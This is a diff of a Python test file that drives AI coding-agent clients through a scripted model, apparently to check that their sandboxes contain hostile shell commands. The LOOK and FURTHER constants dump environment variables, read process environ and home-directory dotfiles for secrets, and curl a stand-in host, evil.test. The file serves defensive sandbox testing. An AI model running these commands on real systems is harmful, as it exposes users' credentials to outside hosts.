@@ -3,56 +3,20 @@
 import json
 import shutil
 import subprocess
-from collections.abc import Callable
-from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
 from tests.clients.conftest import client, thorough
 from tests.clients.sessions import CLIENTS, KEY, Ended, run, write_project
+from tests.clients.tools import DONE, TOOLS
 from tests.commands import wave_runtime
-from tests.model_server import Script, ToolCall, Turn
+from tests.model_server import Script, Turn
 
 LOOK = "env; curl -sS --max-time 10 http://evil.test/ https://evil.test/; echo loo''ked"
 FURTHER = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat ~/.*/* ~/.*.json 2>/dev/null | head -c 9000; "
-FINDINGS = '{"findings": []}'
-
-
-@dataclass(frozen=True)
-class Tools:
-    """How a model asks this client for a shell and for a file."""
-
-    shell: Callable[[str], ToolCall]
-    report: ToolCall
-    accept: tuple[str, ...] = ()
-    """What the step accepts of the client."""
-    look: str = FURTHER + LOOK
-
-
-TOOLS = {
-    "claude": Tools(
-        lambda command: ToolCall("Bash", {"command": command, "description": "x"}),
-        ToolCall("Write", {"file_path": "out/report.json", "content": FINDINGS}),
-    ),
-    "codex": Tools(
-        lambda command: ToolCall("exec_command", {"cmd": command}),
-        ToolCall(
-            "apply_patch",
-            {"input": f"*** Begin Patch\n*** Add File: out/report.json\n+{FINDINGS}\n*** End Patch"},
-        ),
-        ("typed-input", "reads-by-shell"),
-    ),
-    "gemini": Tools(
-        lambda command: ToolCall("run_shell_command", {"command": command}),
-        ToolCall("write_file", {"file_path": "out/report.json", "content": FINDINGS}),
-    ),
-    "opencode": Tools(
-        lambda command: ToolCall("bash", {"command": command, "description": "x"}),
-        ToolCall("write", {"filePath": "out/report.json", "content": FINDINGS}),
-        look=LOOK,  # it lets no command name a folder outside
-    ),
-}
+LOOKS = {"opencode": LOOK}
+"""By the client that lets no command name a folder outside."""
 CASES = [
     ("claude", "ns", "none"),
     pytest.param("claude", "ns", "open", marks=thorough),
@@ -80,7 +44,8 @@ def look_around(project: Path, name: str, level: str, network: str) -> tuple[Scr
     tools = TOOLS[name]
     step = f"    sandbox: {{level: {level}, network: {network}}}\n"
     write_project(project, ["Bash", "Write(out/*)"], client=name, accept=list(tools.accept), step=step)
-    turns = [Turn(calls=(tools.shell(tools.look),)), Turn(calls=(tools.report,)), Turn(text="It is done.")]
+    look = LOOKS.get(name, FURTHER + LOOK)
+    turns = [Turn(calls=(tools.shell(look),)), Turn(calls=(tools.report,)), DONE]
     script = Script(turns)
     return script, run(project, script, client(name))
 
